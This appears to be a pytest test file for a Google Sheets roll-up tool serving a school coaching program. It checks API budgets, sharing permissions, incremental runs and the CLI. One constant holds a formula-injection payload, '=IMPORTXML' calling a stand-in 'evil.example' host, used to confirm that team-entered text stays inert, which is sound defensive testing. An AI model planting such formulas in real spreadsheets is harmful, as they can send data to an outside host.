"""The roll-up job through the emulator and the real client libraries: what a coach sees, what a
TL may not see, and the API budget of cold, warm and incremental runs."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from typing import Any

import pytest
from gspread.exceptions import APIError
from gspread.utils import absolute_range_name
from typer.testing import CliRunner

from tests.conftest import ADMIN, SERVICE
from tst_sheets.cli import app
from tst_sheets.config import Settings
from tst_sheets.demo.planted import MistakeKind
from tst_sheets.demo.sample import sample_program, sample_teams
from tst_sheets.demo.season import type_season
from tst_sheets.jobs.files import list_program_files
from tst_sheets.jobs.init import init_roster
from tst_sheets.jobs.provision import provision
from tst_sheets.jobs.rollup import RollupResult, rollup
from tst_sheets.jobs.roster import read_roster
from tst_sheets.model import Program
from tst_sheets.rollup.start_here import MARKER
from tst_sheets.workspace import Workspace, connect

AS_OF = date(2026, 11, 23)
EVIL = '=IMPORTXML("http://evil.example/x","//a")'
AT_SUM = "@SUM(A1:A3)"
COACHES = {
    "dana.whitfield@tst.example.org",
    "marcus.bell@tst.example.org",
    "priya.raman@tst.example.org",
    "luis.herrera@tst.example.org",
}
STAFF = {"maya.thompson@tst.example.org", "program.office@tst.example.org"}
PLAN: dict[str, tuple[MistakeKind, ...]] = {
    "T01": (),
    "T02": ("missed_month", "short_first_coaching", "formula_in_date"),
    "T03": ("goal_without_target", "missed_month", "formula_in_date"),
}
TYPED_IN_DATE = {"T02": "'" + EVIL, "T03": "'" + AT_SUM}
VOLATILE_ABOUT_ROWS = (7, 8, 9)  # written at, read / reused, API calls


@dataclass
class World:
    ws: Workspace
    roster_id: str
    program: Program
    books: dict[str, str]
    connect_as: Callable[[str], Workspace]

    def run(self, as_of: date = AS_OF, full: bool = False) -> RollupResult:
        """A run on its as-of date: the roll-up written as that day's would be."""
        return rollup(self.ws, self.roster_id, as_of, full=full, write=True)


@pytest.fixture
def world(workspace: Workspace, connect_as: Callable[[str], Workspace]) -> World:
    """Three provisioned teams, each with a season typed by its TL (T02, T03 with mistakes)."""
    full = sample_program()
    program = full.model_copy(update={"teams": full.active_teams()[:3]})
    roster_id = init_roster(workspace, program=program).roster_spreadsheet_id
    books = {r.team_id: r.spreadsheet_id for r in provision(workspace, roster_id).created}
    type_season(connect_as, books, AS_OF, plan=PLAN, program=program, typed_in_date=TYPED_IN_DATE)
    return World(workspace, roster_id, read_roster(workspace, roster_id).program, books, connect_as)


def grid(ws: Workspace, book_id: str, title: str) -> list[list[dict[str, Any]]]:
    """A tab's cells as stored: ``userEnteredValue`` and ``effectiveValue`` of each."""
    meta = ws.sheets.client.http_client.fetch_sheet_metadata(
        book_id,
        params={
            "ranges": absolute_range_name(title),
            "includeGridData": "true",
            "fields": "sheets.data.rowData.values(userEnteredValue,effectiveValue)",
        },
    )
    rows = meta["sheets"][0]["data"][0].get("rowData", [])
    return [row.get("values", []) for row in rows]


def shown(ws: Workspace, book_id: str, title: str) -> list[list[Any]]:
    """What a reader sees, formulas as written (FORMULA render)."""
    reply = ws.sheets.client.http_client.values_get(
        book_id, absolute_range_name(title), params={"valueRenderOption": "FORMULA"}
    )
    return list(reply.get("values", []))


def rollup_cells(ws: Workspace, book_id: str) -> dict[str, list[list[Any]]]:
    """Every visible tab of the roll-up as stored, the run's own facts on About left out."""
    meta = ws.sheets.client.http_client.fetch_sheet_metadata(
        book_id,
        params={
            "includeGridData": "true",
            "fields": "sheets(properties(title,hidden),data.rowData.values(userEnteredValue,"
            "userEnteredFormat.numberFormat))",
        },
    )
    out = {}
    for sheet in meta["sheets"]:
        if sheet["properties"].get("hidden"):
            continue
        rows = [r.get("values", []) for r in sheet["data"][0].get("rowData", [])]
        if sheet["properties"]["title"] == "About":
            rows = [r for i, r in enumerate(rows) if i not in VOLATILE_ABOUT_ROWS]
        out[sheet["properties"]["title"]] = rows
    return out


def sheets_calls(result: RollupResult) -> int:
    return result.calls["sheets"]["read"] + result.calls["sheets"]["write"]


# --- a cold run --------------------------------------------------------------------------------


def test_cold_run_reads_each_workbook_once(world: World) -> None:
    result = world.run()
    teams = len(world.program.teams)
    assert result.read == teams and result.reused == 0 and not result.unreadable
    # the roster + one values.batchGet per team (no roll-up state yet: it is being created)
    assert result.calls["sheets"]["read"] <= 1.02 * teams + 1
    # create + content, the roster's Roll-up Spreadsheet setting, each team's Start Here
    assert result.calls["sheets"]["write"] == 2 + 1 + teams
    assert result.start_here_written == ["T01", "T02", "T03"]
    assert read_roster(world.ws, world.roster_id).program.rollup_spreadsheet_id == (
        result.rollup_spreadsheet_id
    )
    labels = world.ws.drive.get_file(result.rollup_spreadsheet_id).app_properties
    assert labels["tstKind"] == "rollup" and labels["tstProgram"] == "TST"
    summary = shown(world.ws, result.rollup_spreadsheet_id, "Summary")
    assert [row[:5] for row in summary] == [
        ["Team", "School", "TL", "Coach", "Status"],
        ["T02", "Roberto Clemente Middle", "Derek Washington", "Dana Whitfield", "Behind"],
        ["T03", "Jane Addams Elementary", "Monique Harris", "Dana Whitfield", "Behind"],
        ["T01", "Harriet Tubman Elementary", "Alicia Gomez", "Dana Whitfield", "On track"],
    ]
    dump = result.model_dump(by_alias=True, mode="json")
    assert set(dump) == {
        "rollupSpreadsheetId",
        "url",
        "asOf",
        "written",
        "teams",
        "byStatus",
        "read",
        "reused",
        "unreadable",
        "statuses",
        "findings",
        "staffFindings",
        "calls",
        "stopped",
        "complete",
        "remaining",
        "checkpoints",
    }
    assert dump["complete"] and dump["remaining"] == 0
    team = dump["statuses"][0]
    assert {"teamId", "status", "why", "commitments", "goal"} <= set(team)
    assert set(team["why"]) == {"text", "link"}
    assert {"id", "owner", "status", "figures"} <= set(team["commitments"][0])
    assert {"baseline", "midYear", "endOfYear", "target", "progress", "onPace"} <= set(team["goal"])
    meetings = next(c for c in team["commitments"] if c["id"] == "team_meetings")
    assert "thisMonth" in meetings["figures"] and "this_month" not in meetings["figures"]
    assert "meetingsThisMonth" in team["metrics"]


def test_a_finding_links_to_its_cell(world: World) -> None:
    result = world.run()
    book = world.books["T02"]
    meta = world.ws.sheets.client.http_client.fetch_sheet_metadata(
        book, params={"fields": "sheets.properties(sheetId,title)"}
    )
    gid = next(
        s["properties"]["sheetId"] for s in meta["sheets"] if s["properties"]["title"] == "Coaching"
    )
    short = [
        r
        for r in shown(world.ws, result.rollup_spreadsheet_id, "Findings")
        if r[0] == "T02" and r[7].startswith("20 min")
    ]
    assert len(short) == 1
    assert short[0][5] == "Coaching"
    assert short[0][6] == (
        f'=HYPERLINK("https://docs.google.com/spreadsheets/d/{book}/edit#gid={gid}&range=B3","B3")'
    )
    typed = world.ws.sheets.client.http_client.values_get(book, "Coaching!B3")["values"]
    assert typed == [["20"]] or typed == [[20]]


def test_formula_like_text_from_a_tl_stays_text(world: World) -> None:
    result = world.run()
    cells = [c for row in grid(world.ws, result.rollup_spreadsheet_id, "Findings") for c in row]
    entered = [c.get("userEnteredValue", {}) for c in cells]
    texts = [e.get("stringValue", "") for e in entered]
    assert any(t.startswith(EVIL) for t in texts) and any(t.startswith(AT_SUM) for t in texts)
    evil = next(
        c for c in cells if c.get("userEnteredValue", {}).get("stringValue", "").startswith(EVIL)
    )
    assert evil["effectiveValue"] == evil["userEnteredValue"]  # shown as typed, never run
    formulas = [e["formulaValue"] for e in entered if "formulaValue" in e]
    assert formulas and all(f.startswith('=HYPERLINK("https://docs.google.com/') for f in formulas)
    here = [
        c.get("userEnteredValue", {})
        for row in grid(world.ws, world.books["T02"], "Start Here")
        for c in row
    ]
    assert any(EVIL in v.get("stringValue", "") for v in here)
    assert all(v["formulaValue"].startswith("=HYPERLINK(") for v in here if "formulaValue" in v)


def test_only_coaches_and_staff_can_open_it(world: World) -> None:
    book = world.run().rollup_spreadsheet_id
    team = world.program.teams[0]
    for outsider in (team.tl_email, team.principal_email, sample_teams()[0].members[0].address()):
        with pytest.raises(APIError) as refused:
            world.connect_as(outsider).sheets.client.http_client.fetch_sheet_metadata(book)
        assert refused.value.response.status_code in (403, 404)
    coach = world.connect_as(team.coach_email)
    assert coach.sheets.client.http_client.values_get(book, "Summary!A1")["values"] == [["Team"]]
    perms = world.ws.drive.list_permissions(book)
    shared = {p.email: p.role for p in perms if not p.inherited}
    members = {p.email for p in perms if p.inherited}  # the shared drive's: its admin, the service
    outside = [s for s in STAFF if s not in members]
    assert shared == {**{c: "reader" for c in COACHES}, **{s: "writer" for s in outside}}
    assert members == {ADMIN, SERVICE}


def admin_deletes(world: World, file_id: str) -> None:
    """A staff admin (an organizer of the shared drive) deletes a file for good."""
    admin = world.connect_as(ADMIN)
    admin.drive.resource.files().delete(fileId=file_id, supportsAllDrives=True).execute()


# --- warm runs ---------------------------------------------------------------------------------


def test_nothing_changed_writes_nothing_anywhere(world: World) -> None:
    first = world.run()
    modified = {f.id: f.modified_time for f in list_program_files(world.ws)}
    again = world.run()
    assert again.read == 0 and again.reused == 3 and not again.written
    assert sheets_calls(again) <= 2 and again.calls["sheets"]["write"] == 0
    assert again.calls["drive"]["write"] == 0 and not again.start_here_written
    after = {f.id: f.modified_time for f in list_program_files(world.ws)}
    assert after == modified
    assert again.rollup_spreadsheet_id == first.rollup_spreadsheet_id


def test_incremental_equals_cold_cell_for_cell(world: World) -> None:
    world.run()
    tl = world.connect_as(world.program.teams[0].tl_email)
    tl.sheets.client.http_client.values_append(
        world.books["T01"],
        "Meetings!A1",
        params={"valueInputOption": "USER_ENTERED"},
        body={"values": [["2026-11-20", "45", "Alicia Gomez", "Walkthrough debrief", ""]]},
    )
    warm = world.run()
    assert (warm.read, warm.reused) == (1, 2)
    assert warm.calls["sheets"]["read"] == 2 + 1  # roster, state, the changed team
    assert warm.calls["sheets"]["write"] - len(warm.start_here_written) <= 2
    incremental = rollup_cells(world.ws, warm.rollup_spreadsheet_id)
    full = world.run(full=True)
    assert full.read == 3 and not full.written  # same content, same state: nothing to write
    # a roll-up built from nothing, by a cold run, is the same cell for cell
    admin_deletes(world, warm.rollup_spreadsheet_id)
    cold = world.run()
    assert cold.rollup_spreadsheet_id != warm.rollup_spreadsheet_id and cold.read == 3
    assert rollup_cells(world.ws, cold.rollup_spreadsheet_id) == incremental


def test_first_seen_is_kept_across_runs(world: World) -> None:
    world.run()
    later = world.run(as_of=date(2026, 11, 30))
    rows = shown(world.ws, later.rollup_spreadsheet_id, "Findings")
    header = rows[0]
    seen, days = header.index("First seen"), header.index("Days open")
    october = next(r for r in rows if r[0] == "T02" and r[7] == "0 meetings in October 2026")
    first = date(1899, 12, 30).toordinal() + october[seen]
    assert date.fromordinal(first) == AS_OF and october[days] == 7


def test_an_unreadable_workbook_does_not_stop_the_write(world: World) -> None:
    admin_deletes(world, world.books["T03"])
    result = world.run()
    assert [u.team for u in result.unreadable] == ["T03"] and result.written
    summary = shown(world.ws, result.rollup_spreadsheet_id, "Summary")
    assert ["T03", "Unreadable"] in [[r[0], r[4]] for r in summary]
    findings = shown(world.ws, result.rollup_spreadsheet_id, "Findings")
    assert any(r[0] == "T03" and r[4] == "The team workbook can be read" for r in findings)
    assert any(r[0] == "T01" for r in findings) or result.by_status["On track"] == 1
    again = world.run()  # a workbook that is gone stays unreadable without being re-read
    assert again.read == 0 and sheets_calls(again) <= 2


def test_start_here_shows_the_team_its_status(world: World) -> None:
    world.run()
    rows = shown(world.ws, world.books["T02"], "Start Here")
    labels = {r[0]: r[1] for r in rows if len(r) > 1}
    # the first screen: the status and its reason, linked to the cell that shows it
    assert labels["Status"].startswith('=HYPERLINK("https://docs.google.com/spreadsheets/d/')
    assert '","Behind: Team meets twice a month: 0 meetings in October 2026' in labels["Status"]
    start = next(i for i, r in enumerate(rows) if r and r[0] == MARKER)
    assert rows[start + 1] == ["Overall", "Behind"]
    assert any(r[1].startswith("Behind: meetings this month") for r in rows[start:] if len(r) > 1)
    links = [r[0] for r in rows[start:] if r and str(r[0]).startswith("=HYPERLINK(")]
    assert any('","Meetings!A' in link for link in links)  # the missed month, at its row
    assert not any("Coaching!B3" in link for link in links)  # a short session is only a note


def test_a_rollup_edited_by_hand_is_put_right(world: World) -> None:
    book = world.run().rollup_spreadsheet_id
    staff = world.connect_as(sorted(STAFF)[0])  # staff may edit the roll-up
    meta = staff.sheets.client.http_client.fetch_sheet_metadata(
        book, params={"fields": "sheets(properties(title,sheetId),filterViews.filterViewId)"}
    )
    views = next(s["filterViews"] for s in meta["sheets"] if s["properties"]["title"] == "Findings")
    staff.sheets.client.http_client.batch_update(
        book,
        {
            "requests": [
                {"deleteFilterView": {"filterId": views[0]["filterViewId"]}},
                {
                    "deleteSheet": {
                        "sheetId": next(
                            s["properties"]["sheetId"]
                            for s in meta["sheets"]
                            if s["properties"]["title"] == "Events"
                        )
                    }
                },
            ]
        },
    )
    later = world.run(as_of=date(2026, 11, 24))  # a new day: the roll-up changes
    assert later.written
    # the first write is refused (it deletes a filter view that is gone): look once, write again
    assert later.calls["sheets"]["write"] - len(later.start_here_written) == 2
    titles = [
        s["properties"]["title"]
        for s in world.ws.sheets.client.http_client.fetch_sheet_metadata(
            book, params={"fields": "sheets.properties.title"}
        )["sheets"]
    ]
    assert titles == [
        "Summary",
        "Findings",
        "By Coach",
        "Impact",
        "Trends",
        "Events",
        "Staff",
        "About",
        "_state",
    ]
    again = world.run(as_of=date(2026, 11, 25))
    assert again.calls["sheets"]["write"] - len(again.start_here_written) == 1


# --- the command line --------------------------------------------------------------------------


def test_cli_json_and_summary(world: World, service_env: Settings) -> None:
    env: dict[str, str] = {}
    args = ["rollup", "--roster", world.roster_id, "--as-of", "2026-11-23"]
    out = CliRunner().invoke(app, [*args, "--json"], env=env)
    assert out.exit_code == 0, out.output
    data = json.loads(out.output)
    assert (data["teams"], data["read"], data["reused"]) == (3, 3, 0)
    assert data["calls"]["sheets"]["read"] == 4
    shown_ = CliRunner().invoke(app, [*args, "--full"], env=env)
    assert shown_.exit_code == 0, shown_.output
    assert "Teams by status" in shown_.output and "3 workbooks read" in shown_.output
    bad = CliRunner().invoke(app, ["rollup", "--as-of", "23/11/2026"], env=env)
    assert bad.exit_code == 2


# --- what-if dates -----------------------------------------------------------------------------


def test_a_what_if_date_writes_nothing_and_answers_what_the_rollup_would_say(
    world: World, settings: Settings
) -> None:
    """On Dec 1, a past or a future date is a what-if: read, checked, never written."""
    first = world.run()
    on_dec_1 = connect(settings.model_copy(update={"as_of": date(2026, 12, 1)}))
    modified = {f.id: f.modified_time for f in list_program_files(on_dec_1)}
    for day in (AS_OF, date(2027, 5, 1)):
        what_if = rollup(on_dec_1, world.roster_id, day)
        assert what_if.calls["sheets"]["write"] == 0 and what_if.calls["drive"]["write"] == 0
        assert not what_if.written and what_if.as_of == day
    assert {f.id: f.modified_time for f in list_program_files(on_dec_1)} == modified
    past = rollup(on_dec_1, world.roster_id, AS_OF)
    assert past.rollup_spreadsheet_id == first.rollup_spreadsheet_id
    same = ("statuses", "findings", "staffFindings", "byStatus", "teams", "asOf")
    dump = past.model_dump(by_alias=True, mode="json")
    assert {k: dump[k] for k in same} == {
        k: v for k, v in first.model_dump(by_alias=True, mode="json").items() if k in same
    }
    written = rollup(on_dec_1, world.roster_id, date(2027, 5, 1), write=True)
    assert written.written and written.calls["sheets"]["write"] >= 1


def test_cli_rollup_as_of_a_past_date_reports_zero_sheets_writes(
    world: World, service_env: Settings
) -> None:
    env = {"TST_AS_OF": "2026-12-01"}
    args = ["rollup", "--roster", world.roster_id, "--as-of", "2026-11-23", "--json"]
    out = CliRunner().invoke(app, args, env=env)
    assert out.exit_code == 0, out.output
    data = json.loads(out.output)
    assert data["calls"]["sheets"]["write"] == 0 and data["written"] is False
    assert data["asOf"] == "2026-11-23" and data["statuses"]
    shown_ = CliRunner().invoke(app, args[:-1], env=env)
    assert "nothing written" in shown_.output and "--write" in shown_.output
    write = CliRunner().invoke(app, [*args, "--write"], env=env)
    assert json.loads(write.output)["calls"]["sheets"]["write"] >= 1
